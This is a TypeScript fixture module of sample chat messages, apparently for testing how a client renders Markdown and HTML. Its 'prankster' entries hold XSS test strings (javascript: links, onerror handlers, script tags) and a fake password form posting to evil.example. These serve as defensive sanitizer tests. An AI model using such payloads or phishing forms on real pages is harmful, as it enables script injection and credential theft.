import { samples } from "../samples";
import { entry, who, type Entry } from "./entry";

const guide = `# 云湖 Markdown 指南

正文可以 **加粗**、*倾斜*、~~划掉~~，也可以写 \`代码\` 和[链接](https://www.yhchat.com/)。

## 清单

- [x] 买票
- [ ] 收拾行李
  - 充电器
  - 雨衣

1. 第一步
2. 第二步

> 引用里也可以有 **格式**。
> Two lines of it.

| 名称 | 数量 | 单价 |
|:-----|:----:|-----:|
| 苹果 | 3 | ¥ 4.50 |
| A rather long cell that has to go somewhere | 12 | ¥ 128.00 |

\`\`\`ts
export function greet(name: string): string {
  return \`你好，\${name}\`;
}
\`\`\`

---

脚注之前，一条横线。`;

const hostileMarkdown = `[点我](javascript:alert(1)) ![x](javascript:alert(2)) <img src=x onerror=alert(3)>

<script>alert(4)</script>

[看起来安全](https://example.com "onmouseover=alert(5)")`;

const hostileHtml = `<p>下面的都不该生效</p><script>alert(1)</script><img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">链接</a><iframe src="https://example.com"></iframe>
<div style="position:fixed;inset:0;background:red;z-index:99999">盖住全部</div><style>body{display:none}</style>
<form action="https://evil.example"><input name="password"><button>登录</button></form>`;

const sample = (by: keyof typeof who, name: string): Entry => ({
  by: who[by],
  draft: samples.get(name) ?? { type: 1, content: {} },
});

/** Kind 3. */
export const markdown: readonly Entry[] = [
  entry("stream", 3, { text: guide }),
  entry("li", 3, { text: "短的 **Markdown** 也要好看。" }),
  entry("prankster", 3, { text: hostileMarkdown }),
];

/** Kinds 5, 6 and 8. */
export const forms: readonly Entry[] = [sample("demo", "form"), entry("forms", 5, { form: "这不是 JSON {" })];
export const posts: readonly Entry[] = [sample("wang", "post"), sample("li", "plainpost")];
export const pages: readonly Entry[] = [sample("buttons", "html"), entry("prankster", 8, { text: hostileHtml })];

/** Kind 14, and one that nobody knows yet. */
export const surfaces: readonly Entry[] = [
  sample("forms", "a2ui"),
  entry("forms", 14, { text: "**A2UI** 里也有人直接写 Markdown。" }),
];
export const unknown: readonly Entry[] = [entry("echo", 99, { text: "来自未来的一种消息 · a kind from the future" })];
